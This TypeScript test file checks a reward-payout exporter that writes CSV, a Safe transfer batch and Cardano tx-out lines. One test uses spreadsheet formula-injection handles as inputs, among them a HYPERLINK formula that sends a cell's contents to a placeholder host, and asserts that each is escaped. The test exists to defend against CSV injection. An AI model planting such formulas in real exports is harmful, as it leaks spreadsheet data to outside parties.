import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { computeReport } from '../../src/core/report.ts';
import { formatUnits } from '../../src/format/units.ts';
import { checksumAddress } from '../../src/chain/address.ts';
import { batchChecksum, cardanoTxOuts, LOVELACE_PER_OUTPUT, PayoutError, payoutCsv, payoutRows, safeBatch } from '../../src/results/payout.ts';
import { CARDANO_NETWORKS } from '../../src/chain/cardano/network.ts';
import { cardanoWallet } from '../helpers/cardano.ts';
import { parseRoundFileText } from '../../src/roundfile/schema.ts';

const sample = parseRoundFileText(readFileSync(new URL('../../examples/governance-round-1.json', import.meta.url), 'utf8'));
// A handle with every character CSV must quote; members who earned points without a wallet get an empty one to be paid to.
const rewarded = computeReport(sample).rewards.amounts[0]!.member;
const data = {
  ...sample,
  members: sample.members.map((m, i) => ({
    ...m,
    handle: m.id === rewarded ? 'Smith, "Jr"\nthe second' : m.handle,
    wallets: m.wallets.length ? m.wallets : [{ chain: 'eip155:1', address: `0x${(0xbeef00 + i).toString(16).padStart(40, '0')}`, balance: 0n }],
  })),
};
const report = computeReport(data);
const rows = payoutRows(data, report);
const token = { address: '0xa1b2c3d4e5f60718293a4b5c6d7e8f9012345678', chainId: 1 };

/** RFC 4180, read independently of the writer: quoted fields, doubled quotes, CRLF rows. */
function parseCsv(text: string): string[][] {
  const out: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(field), (field = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(field), out.push(row), (row = []), (field = ''), i++;
    else field += c;
  }
  return out;
}

/** The Transaction Builder's batch file (safe-global/safe-react-apps, apps/tx-builder/src/typings/models.ts). */
const batchSchema = z.strictObject({
  version: z.literal('1.0'),
  chainId: z.string().regex(/^\d+$/),
  createdAt: z.number().int().positive(),
  meta: z.strictObject({
    name: z.string(),
    description: z.string().optional(),
    txBuilderVersion: z.string().optional(),
    createdFromSafeAddress: z.string().optional(),
    createdFromOwnerAddress: z.string().optional(),
    checksum: z.string().regex(/^0x[0-9a-f]{64}$/).optional(),
  }),
  transactions: z.array(
    z.strictObject({
      to: z.string().regex(/^0x[0-9a-fA-F]{40}$/),
      value: z.string().regex(/^\d+$/),
      data: z.string().nullable().optional(),
      contractMethod: z.strictObject({ inputs: z.array(z.strictObject({ internalType: z.string(), name: z.string(), type: z.string() })), name: z.string(), payable: z.boolean() }),
      contractInputsValues: z.record(z.string(), z.string()),
    }),
  ),
});

describe('reward payout exports', () => {
  it('GIVEN the split THEN the CSV parses back to the report: members, addresses, tiers, exact amounts', () => {
    const [head, ...lines] = parseCsv(payoutCsv(rows, report.token));
    expect(head).toEqual(['member', 'handle', 'address', 'tier', 'points', 'amount_base_units', 'amount_AGIX', 'chain', 'unpaid']);
    expect(lines).toHaveLength(report.rewards.amounts.length);
    const byMember = new Map(report.members.map((m) => [m.id, m]));
    lines.forEach((line, i) => {
      const [member, handle, address, tier, points, base, tokens] = line;
      const expected = report.rewards.amounts[i]!;
      expect(member).toBe(expected.member);
      expect(handle).toBe(byMember.get(member!)!.handle);
      expect(BigInt(base!)).toBe(expected.amount);
      expect(tokens).toBe(formatUnits(expected.amount, 8).replace(/,/g, ''));
      expect(Number(points)).toBe(byMember.get(member!)!.points);
      expect(tier).toBe(byMember.get(member!)!.tier ?? '');
      const wallets = data.members.find((m) => m.id === member)!.wallets;
      expect(wallets.some((w) => w.address === address!.toLowerCase())).toBe(true);
      expect(line[7]).toBe('eip155:1');
    });
    expect(lines.some(([, handle]) => handle === 'Smith, "Jr"\nthe second')).toBe(true);
    expect(lines.reduce((s, l) => s + BigInt(l[5]!), 0n) + report.rewards.undistributed).toBe(report.rewards.pool);
  });

  it('GIVEN handles and a tier a spreadsheet would run as formulas THEN each is prefixed with a quote and quoted, and reads back as the text plus that quote', () => {
    const formulas = ['=HYPERLINK("http://x.example/?"&A1,"pay")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tcmd', '\rcmd'];
    const members = report.rewards.amounts.slice(0, formulas.length).map((a) => a.member);
    const hostile = { ...data, members: data.members.map((m) => (members.includes(m.id) ? { ...m, handle: formulas[members.indexOf(m.id)]! } : m)) };
    const config = { ...hostile.round.config, tiers: { ...hostile.round.config.tiers, levels: hostile.round.config.tiers.levels.map((l) => (l.name === 'B' ? { ...l, name: '=1+2' } : l)) } as typeof hostile.round.config.tiers };
    const hostileReport = computeReport({ ...hostile, round: { ...hostile.round, config } });
    const csv = payoutCsv(payoutRows(hostile, hostileReport), hostileReport.token);
    const parsed = parseCsv(csv);
    for (const [i, formula] of formulas.entries()) expect(parsed.find((r) => r[0] === members[i])![1]).toBe(`'${formula}`);
    expect(csv).toContain('"\'=HYPERLINK(""http://x.example/?""&A1,""pay"")"');
    expect(parsed.filter((r) => r[3] === "'=1+2").length).toBeGreaterThan(0);
    // no field of any row starts with a formula character once read back
    for (const row of parsed) for (const field of row) expect(field).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('GIVEN a token contract THEN the Safe batch has one transfer per recipient, valid, summing to the pool', () => {
    const batch = safeBatch(rows, report, token, new Date('2025-02-01T00:00:00Z'));
    const parsed = batchSchema.parse(JSON.parse(JSON.stringify(batch)));
    expect(parsed.chainId).toBe('1');
    expect(parsed.transactions).toHaveLength(rows.length);
    expect(new Set(parsed.transactions.map((t) => t.contractInputsValues['to'])).size).toBe(rows.length);
    for (const t of parsed.transactions) {
      expect(t.to).toBe(checksumAddress(token.address));
      expect(t.value).toBe('0');
      expect(t.contractMethod.name).toBe('transfer');
      expect(t.contractMethod.inputs.map((x) => `${x.type} ${x.name}`)).toEqual(['address to', 'uint256 amount']);
    }
    const sum = parsed.transactions.reduce((s, t) => s + BigInt(t.contractInputsValues['amount']!), 0n);
    expect(sum + report.rewards.undistributed).toBe(report.rewards.pool);
    expect(batch.meta.checksum).toBe(batchChecksum(batch));
    const tampered = { ...batch, transactions: batch.transactions.map((t, i) => (i === 0 ? { ...t, contractInputsValues: { ...t.contractInputsValues, amount: '1' } } : t)) };
    expect(batchChecksum(tampered)).not.toBe(batch.meta.checksum);
  });

  it('GIVEN addresses THEN they are EIP-55 checksummed', () => {
    // The examples of EIP-55 itself.
    expect(checksumAddress('0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed')).toBe('0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed');
    expect(checksumAddress('0xfb6916095ca1df60bb79ce92ce3ea74c37c5d359')).toBe('0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359');
  });

  it('GIVEN no token contract THEN the batch is refused with the reason; GIVEN a recipient without a wallet THEN the batch pays the others and the row says why', () => {
    expect(() => safeBatch(rows, report, {}, new Date())).toThrow(PayoutError);
    expect(() => safeBatch(rows, report, {}, new Date())).toThrow('set token.address and token.chainId with /round config');
    const walletless = rows[2]!.member;
    const without = { ...data, members: data.members.map((m) => (m.id === walletless ? { ...m, wallets: [] } : m)) };
    const unpaid = payoutRows(without, report);
    expect(unpaid[2]).toMatchObject({ chain: '', address: '', unpaid: 'no wallet linked (/verify links one)' });
    const batch = safeBatch(unpaid, report, token, new Date());
    expect(batch.transactions).toHaveLength(rows.length - 1);
    expect(parseCsv(payoutCsv(unpaid, report.token))[3]).toEqual([walletless, rows[2]!.handle, '', rows[2]!.tier, String(rows[2]!.points), rows[2]!.amount.toString(), expect.any(String), '', 'no wallet linked (/verify links one)']);
  });
});

describe('payouts on Ethereum and Cardano', () => {
  const POLICY = 'f43a62fdc3965df486de8a0d32fe800963589c41b38946602a0dc535';
  const ASSET = Buffer.from('AGIX').toString('hex');
  const cardano = { chain: CARDANO_NETWORKS.mainnet.chain, policyId: POLICY, assetName: ASSET, decimals: 8 };
  const [first, second, third, fourth] = report.rewards.amounts.map((a) => a.member);
  const byStake = cardanoWallet();
  const byPayment = cardanoWallet();
  const evm = (id: string) => data.members.find((m) => m.id === id)!.wallets[0]!;
  /** first: mostly on Cardano, by stake address only; second: mostly on Cardano at an address; third: only on Polygon; fourth: as before. */
  const mixed = (decimals: number) => ({
    ...data,
    round: { ...data.round, config: { ...data.round.config, token: { ...data.round.config.token, ...token, decimals, cardano } } },
    members: data.members.map((m) => {
      if (m.id === first) return { ...m, wallets: [{ ...evm(m.id), balance: 1n }, { chain: cardano.chain, address: byStake.stakeAddress, balance: 10n ** 12n }] };
      if (m.id === second) return { ...m, wallets: [{ ...evm(m.id), balance: 1n }, { chain: cardano.chain, address: byPayment.base, balance: 10n ** 12n }] };
      if (m.id === third) return { ...m, wallets: [{ ...evm(m.id), chain: 'eip155:137' }] };
      return m;
    }),
  });

  it('GIVEN wallets on both chains THEN each member is paid where most of their tokens are, a choice overrides it, a stake address or another chain is never paid, and each file holds only its chain', () => {
    const round = mixed(8);
    const split = computeReport(round);
    const paid = payoutRows(round, split);
    const row = (id: string) => paid.find((r) => r.member === id)!;
    // A stake address cannot receive: paid on Ethereum, where it has a receiving wallet, until it names an address.
    expect(row(first!)).toMatchObject({ chain: 'eip155:1', address: checksumAddress(evm(first!).address) });
    expect(row(second!)).toMatchObject({ chain: cardano.chain, address: byPayment.base });
    expect(row(third!)).toMatchObject({ chain: '', unpaid: 'no wallet on a chain the round pays (eip155:137)' });
    expect(row(fourth!)).toMatchObject({ chain: 'eip155:1' });

    const chosen = payoutRows(round, split, new Map([[first!, { chain: cardano.chain, address: byStake.base }], [second!, { chain: 'eip155:1', address: evm(second!).address }]]));
    expect(chosen.find((r) => r.member === first)).toMatchObject({ chain: cardano.chain, address: byStake.base });
    expect(chosen.find((r) => r.member === second)).toMatchObject({ chain: 'eip155:1', address: checksumAddress(evm(second!).address) });

    const outs = cardanoTxOuts(chosen, round.round.config.token).trimEnd().split('\n');
    expect(outs).toEqual([`--tx-out "${byStake.base} + ${LOVELACE_PER_OUTPUT} lovelace + ${row(first!).amount} ${POLICY}.${ASSET}"`]);
    const batch = safeBatch(chosen, split, token, new Date());
    expect(batch.transactions.map((t) => t.contractInputsValues['to'])).toEqual(chosen.filter((r) => r.chain === 'eip155:1').map((r) => r.address));
    // Every amount is in exactly one file, or named as unpaid.
    expect(batch.transactions.length + outs.length + chosen.filter((r) => r.unpaid).length).toBe(chosen.length);
  });

  it('GIVEN the Cardano asset has other decimals than the round token THEN amounts convert exactly to its base units, and one that would lose digits is refused by name', () => {
    // Round token with 6 decimals, asset with 8: ×100, exact.
    const six = mixed(6);
    const sixRows = payoutRows(six, computeReport(six));
    const paidOnCardano = sixRows.find((r) => r.member === second)!;
    expect(cardanoTxOuts(sixRows, six.round.config.token)).toContain(` + ${paidOnCardano.amount * 100n} ${POLICY}.${ASSET}"`);
    // Round token with 10 decimals, asset with 8: an amount not a multiple of 100 cannot be paid on Cardano.
    const ten = mixed(10);
    const tenRows = payoutRows(ten, computeReport(ten)).map((r) => (r.member === second ? { ...r, amount: 12_345n } : r));
    expect(() => cardanoTxOuts(tenRows, ten.round.config.token)).toThrow(`${tenRows.find((r) => r.member === second)!.handle} (12345) cannot be paid on Cardano without losing digits`);
    const whole = tenRows.map((r) => (r.member === second ? { ...r, amount: 12_300n } : r));
    expect(cardanoTxOuts(whole, ten.round.config.token)).toContain(' + 123 ');
    expect(() => cardanoTxOuts(rows, data.round.config.token)).toThrow('the round has no Cardano asset');
  });
});
